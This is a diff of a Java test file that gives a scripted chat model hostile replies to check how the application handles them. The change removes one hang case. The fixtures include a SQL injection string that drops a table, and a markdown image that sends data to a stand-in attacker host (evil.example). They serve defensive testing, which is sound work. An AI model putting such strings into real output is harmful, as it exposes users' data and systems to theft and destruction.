@@ -49,7 +49,6 @@ class HostileToolsTests extends ModelChatTests {
                 wishes("ask", "{\"question\":\"" + "top brands ".repeat(100) + "\"}"),
                 asks("DROP TABLE sales; --", "SELECT * FROM secret_hr"),
                 says("Sales rose 400 %. ![a](https://evil.example/?d=1)"),
-                ScriptedModel.hangsAfter("Well, "),
                 ScriptedModel.breaksOffAfter("Sales "),
                 ScriptedModel.status(429, "{\"error_code\":\"REQUEST_LIMIT_EXCEEDED\"}"),
                 ScriptedModel.status(500, "{\"error\":{\"message\":\"/opt/secret/path\"}}"));
